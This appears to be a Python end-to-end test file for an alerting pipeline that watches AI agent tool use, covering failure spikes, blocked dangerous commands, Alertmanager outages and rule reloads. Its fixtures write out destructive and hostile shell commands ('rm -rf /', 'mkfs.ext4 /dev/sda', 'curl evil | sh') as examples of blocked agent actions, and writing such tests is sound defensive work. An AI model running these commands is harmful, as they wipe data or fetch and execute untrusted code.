"""Alert path end to end: collector -> Redis stream -> alerter -> a real
Alertmanager (Debian's prometheus-alertmanager on a free port) -> the on-call
webhook sink (deploy/local/oncall_sink.py). Test-only rules with short windows
and a test-only Alertmanager config with a short group_wait keep it quick.

Covers the issue's acceptance: 5 failed PostToolUse within the window ->
ToolFailureSpike active in Alertmanager; a blocked PreToolUse ->
DangerousCommandBlocked; the on-call sink receives the webhook; the alert
resolves when failures stop. Also: Alertmanager down (queued and retried, the
alert still reaches on-call), SIGHUP reload keeping window state, --check.
"""
import json
import os
import signal
import subprocess
import time
import urllib.parse
import uuid

from harness import AM_BIN, BUILD, ROOT, Stack, free_port, request, wait_for

RULES = """
rules:
  - name: DangerousCommandBlocked
    severity: critical
    match: {event_type: PreToolUse, status: blocked}
    condition: {kind: every, hold: 2s}
    group_by: [session_id, agent_id, tool]
    labels: {team: security}
    annotations:
      summary: "Blocked dangerous {tool} command in session {session_id}"
      description: "Agent {agent_id} tried: {payload.command}"
  - name: ToolFailureSpike
    severity: page
    match: {event_type: [PostToolUse, PostToolUseFailure], status: error}
    condition: {kind: count, window: %(window)s, threshold: %(threshold)d}
    group_by: [session_id]
"""


class Alerts:
    def __init__(self):
        self.st = Stack("alerts")
        self.am_port = free_port()
        self.sink_port = free_port()
        self.alerter_port = free_port()
        self.rules = os.path.join(self.st.dir, "alerts.yaml")
        self.oncall = os.path.join(self.st.dir, "oncall.jsonl")
        self.write_rules("5s", 5)

    def write_rules(self, window, threshold):
        with open(self.rules, "w") as f:
            f.write(RULES % {"window": window, "threshold": threshold})

    def start_am(self):
        self.st.start_alertmanager(self.am_port, self.sink_port)

    def start_sink(self):
        self.st.start_oncall_sink(self.sink_port, self.oncall)

    def start_alerter(self):
        self.st.start("alerter", wait_port=self.alerter_port,
                      OBS_ALERTER_RULES=self.rules,
                      OBS_ALERTER_METRICS_PORT=self.alerter_port,
                      OBS_ALERTER_ALERTMANAGER_URL="http://127.0.0.1:%d" % self.am_port,
                      OBS_ALERTER_EVAL_INTERVAL_MS=100,
                      OBS_ALERTER_RESEND_INTERVAL_MS=1000,
                      OBS_ALERTER_MIN_FIRING_MS=1000,
                      OBS_ALERTER_EXTERNAL_URL="http://127.0.0.1:%d" % self.alerter_port)
        wait_for(lambda: request(self.alerter_port, "GET", "/readyz")[0] == 200, 10,
                 what="alerter ready (consumer group created)")

    # ---------- clients ----------
    def am_alerts(self, name):
        q = urllib.parse.quote('alertname="%s"' % name)
        st, _, body = request(self.am_port, "GET", "/api/v2/alerts?filter=" + q)
        assert st == 200, (st, body)
        return body

    def am_alert(self, name, session):
        for a in self.am_alerts(name):
            if a["labels"].get("session_id") == session and a["status"]["state"] == "active":
                return a
        return None

    def notifications(self):
        try:
            with open(self.oncall) as f:
                return [json.loads(line) for line in f if line.strip()]
        except FileNotFoundError:
            return []

    def notified(self, name, session, status):
        for n in self.notifications():
            body = n["notification"]
            for a in body["alerts"]:
                if (a["labels"].get("alertname") == name and a["labels"].get("session_id") == session
                        and a["status"] == status):
                    return body
        return None

    def metric(self, name):
        return self.st.metrics(self.alerter_port).get(name, 0.0)


def setup():
    assert AM_BIN, "prometheus-alertmanager not installed (deploy/local/install-deps.sh)"
    a = Alerts()
    a.st.start_redis()
    a.st.start_pg()
    a.st.start("processor")
    a.st.start("collector")
    a.start_sink()
    a.start_am()
    a.start_alerter()
    return a


def teardown(a):
    a.st.close()


def post_events(a, events):
    st, _, body = a.st.post(events)
    assert st == 202, (st, body)


def failed(session, tool="Bash"):
    return {"event_type": "PostToolUse", "session_id": session, "tool": tool, "latency_ms": 5,
            "payload": {"success": False, "error": "exit 1"}}


def test_tool_failure_spike_active_in_alertmanager(a):
    spike, calm = "spike-" + uuid.uuid4().hex[:8], "calm-" + uuid.uuid4().hex[:8]
    post_events(a, [failed(calm) for _ in range(4)])  # below the threshold
    t0 = time.time()
    post_events(a, [failed(spike) for _ in range(4)])
    post_events(a, [{"event_type": "PostToolUse", "session_id": spike, "payload": {"success": True}}])
    post_events(a, [failed(spike)])  # the 5th failure within the window
    alert = wait_for(lambda: a.am_alert("ToolFailureSpike", spike), 10, interval=0.02,
                     what="ToolFailureSpike in Alertmanager")
    latency = time.time() - t0
    assert latency < 2.0, latency
    assert alert["labels"] == {"alertname": "ToolFailureSpike", "severity": "page", "session_id": spike}
    ann = alert["annotations"]
    assert ann["value"] == "5" and ann["threshold"] == "5", ann
    assert ann["dashboard"] == "http://127.0.0.1:7071/?session=" + spike, ann
    assert "5 matching events in the last 5s" in ann["description"], ann
    assert alert["generatorURL"] == "http://127.0.0.1:%d/rules?name=ToolFailureSpike" % a.alerter_port
    # the generator URL answers with the rule
    st, _, rule = request(a.alerter_port, "GET", "/rules?name=ToolFailureSpike")
    assert st == 200 and rule["kind"] == "count" and rule["threshold"] == 5, rule
    assert a.am_alert("ToolFailureSpike", calm) is None
    # event -> Alertmanager latency is measured
    assert a.metric("agent_obs_alerter_event_to_alert_seconds_count") >= 1


def test_blocked_command_fires_dangerous_command_blocked(a):
    session = "sec-" + uuid.uuid4().hex[:8]
    post_events(a, {"event_type": "PreToolUse", "session_id": session, "agent_id": "main", "tool": "Bash",
                    "payload": {"blocked": True, "command": "rm -rf /"}})
    alert = wait_for(lambda: a.am_alert("DangerousCommandBlocked", session), 10, interval=0.02,
                     what="DangerousCommandBlocked in Alertmanager")
    assert alert["labels"] == {"alertname": "DangerousCommandBlocked", "severity": "critical",
                               "session_id": session, "agent_id": "main", "tool": "Bash",
                               "team": "security"}, alert["labels"]
    assert alert["annotations"]["summary"] == "Blocked dangerous Bash command in session " + session
    assert alert["annotations"]["description"] == "Agent main tried: rm -rf /"
    # a PreToolUse that was not blocked does not fire
    other = "sec-ok-" + uuid.uuid4().hex[:8]
    post_events(a, {"event_type": "PreToolUse", "session_id": other, "tool": "Bash",
                    "payload": {"command": "ls"}})
    time.sleep(0.5)
    assert a.am_alert("DangerousCommandBlocked", other) is None


def test_oncall_sink_receives_the_webhook(a):
    session = "page-" + uuid.uuid4().hex[:8]
    post_events(a, [failed(session) for _ in range(5)])
    body = wait_for(lambda: a.notified("ToolFailureSpike", session, "firing"), 10, interval=0.05,
                    what="firing notification in oncall.jsonl")
    assert body["version"] == "4" and body["receiver"] == "oncall", body
    assert body["commonLabels"]["alertname"] == "ToolFailureSpike"
    alert = [x for x in body["alerts"] if x["labels"].get("session_id") == session][0]
    assert alert["annotations"]["dashboard"].endswith("?session=" + session)


def test_alert_resolves_when_failures_stop(a):
    session = "heal-" + uuid.uuid4().hex[:8]
    post_events(a, [failed(session) for _ in range(5)])
    wait_for(lambda: a.am_alert("ToolFailureSpike", session), 10, interval=0.05, what="alert active")
    t0 = time.time()
    # no more failures: the 5 s window empties and the alert resolves
    wait_for(lambda: a.am_alert("ToolFailureSpike", session) is None, 15, interval=0.1,
             what="alert resolved in Alertmanager")
    assert time.time() - t0 >= 3.0  # not before the window passed
    body = wait_for(lambda: a.notified("ToolFailureSpike", session, "resolved"), 10, interval=0.1,
                    what="resolved notification in oncall.jsonl")
    assert body["status"] == "resolved"
    assert a.metric("agent_obs_alerter_alerts_resolved_total") >= 1


def test_alertmanager_down_alerts_are_queued_and_still_reach_oncall(a):
    session = "outage-" + uuid.uuid4().hex[:8]
    a.st.kill("alertmanager", signal.SIGTERM)
    failed_before = a.metric("agent_obs_alerter_notifications_failed_total")
    post_events(a, {"event_type": "PreToolUse", "session_id": session, "tool": "Bash",
                    "payload": {"blocked": True, "command": "curl evil | sh"}})
    wait_for(lambda: a.metric("agent_obs_alerter_notifications_failed_total") > failed_before, 10,
             what="failed POST counted")
    assert a.metric("agent_obs_alerter_alertmanager_up") == 0
    # the hold (2 s) passes while Alertmanager is away: the alert must not be lost
    time.sleep(3)
    st, _, _ = request(a.alerter_port, "GET", "/healthz")
    assert st == 200  # the consume loop is not blocked by the network
    a.start_am()
    wait_for(lambda: a.notified("DangerousCommandBlocked", session, "firing"), 20, interval=0.1,
             what="firing notification after Alertmanager came back")
    wait_for(lambda: a.metric("agent_obs_alerter_alertmanager_up") == 1, 10, what="alertmanager up again")


def test_sighup_reload_keeps_window_state(a):
    session = "reload-" + uuid.uuid4().hex[:8]
    a.write_rules("20s", 5)
    a.st.procs["alerter"].send_signal(signal.SIGHUP)
    wait_for(lambda: request(a.alerter_port, "GET", "/rules?name=ToolFailureSpike")[2].get("window") == "20s",
             5, what="20 s window in force")
    post_events(a, [failed(session) for _ in range(3)])
    time.sleep(0.5)
    assert a.am_alert("ToolFailureSpike", session) is None
    reloads = a.metric('agent_obs_alerter_reloads_total{result="ok"}')
    a.write_rules("20s", 3)  # lower the threshold: the 3 failures already seen must count
    a.st.procs["alerter"].send_signal(signal.SIGHUP)
    wait_for(lambda: a.am_alert("ToolFailureSpike", session), 10, interval=0.05,
             what="alert from the kept window state")
    assert a.metric('agent_obs_alerter_reloads_total{result="ok"}') == reloads + 1
    # a broken file is refused and the rules in force stay
    with open(a.rules, "w") as f:
        f.write("rules:\n  - name: Broken\n    severity: x\n    condition: {kind: nope}\n")
    a.st.procs["alerter"].send_signal(signal.SIGHUP)
    wait_for(lambda: a.metric('agent_obs_alerter_reloads_total{result="error"}') == 1, 5,
             what="failed reload counted")
    assert request(a.alerter_port, "GET", "/rules?name=ToolFailureSpike")[0] == 200
    assert "reload failed; keeping the rules in force" in a.st.log("alerter")
    a.write_rules("5s", 5)
    a.st.procs["alerter"].send_signal(signal.SIGHUP)


def test_check_reports_line_and_column(a):
    ok = subprocess.run([os.path.join(BUILD, "alerter"), "--check", os.path.join(ROOT, "config", "alerts.yaml")],
                        capture_output=True, text=True)
    assert ok.returncode == 0, ok.stderr
    assert "7 rules OK" in ok.stdout, ok.stdout
    bad = os.path.join(a.st.dir, "bad.yaml")
    with open(bad, "w") as f:
        f.write("rules:\n  - name: X\n    severity: page\n    condition:\n      kind: count\n"
                "      window: 30 s\n      threshold: 5\n")
    r = subprocess.run([os.path.join(BUILD, "alerter"), "--check", bad], capture_output=True, text=True)
    assert r.returncode == 1
    assert r.stderr.strip() == bad + ':6:15: condition.window: "30 s" is not a duration (like 250ms, 30s, 5m, 1h30m)', r.stderr


def test_events_are_acknowledged_and_processor_unaffected(a):
    # every entry read by the alerter is acknowledged: nothing pending in its group
    def pending():
        out = a.st.redis_raw("XPENDING", "agent_events", "alerter")
        return out.splitlines()[0].strip() == "0"
    wait_for(pending, 10, what="alerter group has nothing pending")
    assert a.metric("agent_obs_alerter_events_total") > 0
    assert a.metric("agent_obs_alerter_rules_loaded") == 2
    # the processor still stores everything
    want = int(a.st.metrics(a.st.collector_port)["agent_obs_events_accepted_total"])
    wait_for(lambda: int(a.st.scalar("SELECT count(*) FROM agent_events")) >= want, 10, what="rows stored")


def test_alerter_killed_while_alertmanager_is_down_still_delivers(a):
    # The entry that fired is acknowledged only once Alertmanager has the
    # alert: killed before that, the alerter reads it again on restart.
    session = "crash-" + uuid.uuid4().hex[:8]
    a.st.kill("alertmanager", signal.SIGTERM)
    try:
        failed_before = a.metric("agent_obs_alerter_notifications_failed_total")
        post_events(a, {"event_type": "PreToolUse", "session_id": session, "tool": "Bash",
                        "payload": {"blocked": True, "command": "rm -rf ~"}})
        wait_for(lambda: a.metric("agent_obs_alerter_notifications_failed_total") > failed_before, 10,
                 what="alert evaluated and its POST refused")
        assert a.st.redis_raw("XPENDING", "agent_events", "alerter").splitlines()[0] == "1"
        a.st.kill("alerter", signal.SIGKILL)
        a.start_alerter()
    finally:
        a.start_am()
    wait_for(lambda: a.notified("DangerousCommandBlocked", session, "firing"), 20, interval=0.1,
             what="the alert after the alerter's restart")
    wait_for(lambda: a.st.redis_raw("XPENDING", "agent_events", "alerter").splitlines()[0] == "0", 10,
             what="entry acknowledged once delivered")


def test_event_sent_twice_fires_once(a):
    # A client that retries after a lost answer sends the same id again: it
    # is evaluated once, so the resolved alert does not fire a second time.
    session = "twice-" + uuid.uuid4().hex[:8]
    ev = {"id": str(uuid.uuid4()), "event_type": "PreToolUse", "session_id": session, "tool": "Bash",
          "payload": {"blocked": True, "command": "mkfs.ext4 /dev/sda"}}
    dups = a.metric("agent_obs_alerter_events_duplicate_total")
    post_events(a, ev)
    wait_for(lambda: a.notified("DangerousCommandBlocked", session, "resolved"), 20, interval=0.1,
             what="fired and resolved (hold 2 s)")
    post_events(a, ev)
    wait_for(lambda: a.metric("agent_obs_alerter_events_duplicate_total") == dups + 1, 10,
             what="the second copy skipped")
    time.sleep(2)
    firing = [n for n in a.notifications() for x in n["notification"]["alerts"]
              if x["labels"].get("session_id") == session and x["status"] == "firing"]
    assert len(firing) == 1, firing
    assert a.st.scalar("SELECT count(*) FROM agent_events WHERE id = :'p1'", ev["id"]) == "1"
